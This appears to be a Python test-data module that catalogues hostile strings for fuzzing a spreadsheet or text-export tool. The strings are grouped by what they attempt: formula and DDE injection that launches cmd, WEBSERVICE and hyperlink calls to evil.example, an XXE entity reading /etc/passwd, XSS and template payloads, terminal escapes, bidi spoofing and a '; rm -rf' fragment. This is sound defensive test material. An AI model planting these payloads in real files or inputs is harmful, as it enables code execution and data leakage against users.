"""Texts that try to become more than texts, by what each tries: what stands anywhere may be one of them."""

ATTACKS: dict[str, tuple[str, ...]] = {
    "compute": (
        "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "{=1+1}", "'=1+1", "''=1+1",
        '"=1+1', "=1+1;=2+2", "x;=1+1", "x\t=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=A1", "=$A$1:$A$9", "=#REF!",
        "=1/0", "=Catalogue!A1", "=[1]Sheet1!A1", "of:=1+1", "+A1", "-A1", "=ROW()", "==1", "=", "+", "-", "@",
    ),
    "start a program": (
        "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(cmd|' /C calc'!A0)",
        "cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
        '=MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!\'\'',
        '=CALL("kernel32","WinExec","JCJ","calc",0)',
    ),
    "link elsewhere": (
        '=HYPERLINK("http://evil.example","click")', '=WEBSERVICE("http://evil.example/"&A1)', "http://evil.example",
        "https://evil.example/?q=1", "ftp://evil.example", "mailto:a@evil.example", "file:///etc/passwd",
        r"external:\\evil\share\x.xlsx", "internal:Board!A1", r"\\evil\share\x.xlsx", "javascript:alert(1)",
        "=IMPORTXML(\"http://evil.example\",\"//a\")", "http://evil.example/" + "a" * 2079, "www.evil.example",
    ),
    "break XML or a page": (
        "]]>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&quot;", "&amp;lt;", "&#0;", "&#x41;",
        '"><x y="', "'><x y='", "<!--", "<?xml?>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>", "&y;",
        "<r><t>x</t></r>", "<r>&</r>", "</t></si>", "{{7*7}}", "${7*7}", "{0}", "%s%n",
    ),
    "be read as an escape": (
        "_x0041_", "_x000D_", "_xD800_", r"\u0041", r"\x41", r"\n", "%41", "&A&D&P", "&[Path]",
    ),
    "be no text": (
        "\x00", "a\x00b", "\x01\x08\x0b\x0c\x0e\x1f", "\x7f", "\x85\x9b31m", "\ufffe", "\uffff", "\ud800", "\udfff",
        "x\udc80y", "\U0001ffff", "\r\n", "a\rb", "a\nb",
    ),
    "steer a terminal": (
        "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "\x9b2J", "a\x08b",
        "\rover", "[red]x[/red]", "[link=http://evil.example]x[/link]", "[/]", "[bold",
    ),
    "look like another": (
        "\u202etxt.exe", "\u2066a\u2069", "\u200bx", "x\u00a0y", "e\u0301", " x ", "  ", "\u3000",
    ),
    "be taken for a name": (
        "X1", "X?", "X*", "~X1", "*", "?", "A1", "R1C1", "H100", "TRUE", "#N/A", "#DIV/0!", "1E5", "1e309", "nan",
        "inf", "2026-11-27", "00123", "None", "a,b", "a;b", "a / b", "Value", "Unit",
    ),
    "be a sheet": (
        "Board", "'Board'!A1", "a[b]c", "a:b", "a/b\\c", "History", "x" * 32,
    ),
    "be too long": (
        "n" * 100, "n" * 101, "v" * 255, "v" * 256, '"' * 256, "x" * 32_767, "x" * 32_768, "\U0001f600" * 16_384,
        "x" * 100_000,
    ),
    "leave a string of a language": (
        '"', '""', '"&A1&"', "'", "`", "\\", '\\"', "a'b\"c", '"\nEnd Function\nSub x()', '")+("', "'''", '"""',
        "\\N{BELL}", "$(x)", "`x`", "; rm -rf", "--help", "-h",
    ),
}  # fmt: skip

TEXTS = list(dict.fromkeys(text for texts in ATTACKS.values() for text in texts))
